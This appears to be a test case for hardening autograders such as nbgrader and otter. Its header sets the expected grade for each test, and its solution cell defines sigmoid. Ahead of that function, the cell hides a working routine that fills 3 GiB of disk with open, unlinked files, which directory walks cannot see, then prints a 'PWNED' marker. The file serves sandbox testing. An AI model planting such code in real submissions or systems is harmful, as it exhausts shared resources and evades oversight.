# /// case
# about = "right answers to the other questions, and three GiB on disk in files that are open and have no name any more"
# expect.test_curve_orange = "full"
# expect.test_curve_green = "full"
# expect.test_curve_blue = "full"
# expect.test_bias_column = "full"
# expect.test_sigmoid_2d = "full"
# expect.test_boundary_line = "full"
# expect.test_boundary_vertical = "full"
# expect.test_fit_course_data = "full"
# expect.test_fit_unseen_data = "full"
# expect.test_fit_strength = "full"
# expect.test_fit_intercept = "full"
# expect.test_probability_map = "full"
# rest = "any"
# kind = "deny"
# promise = 4
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# who measures a folder by walking through it does not find them
import os
import time

def _fill(gib=3, piece=48 * 2**20):
    kept = []
    try:
        while len(kept) * piece < gib * 2**30:
            kept.append(os.open("block", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
            os.unlink("block")
            os.posix_fallocate(kept[-1], 0, piece)
        time.sleep(3)
        return True
    except OSError:
        return False
    finally:
        for descriptor in kept:
            os.close(descriptor)

if _fill():
    print(":".join(["PWNED", "attack/disk_flood_unlinked"]))

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
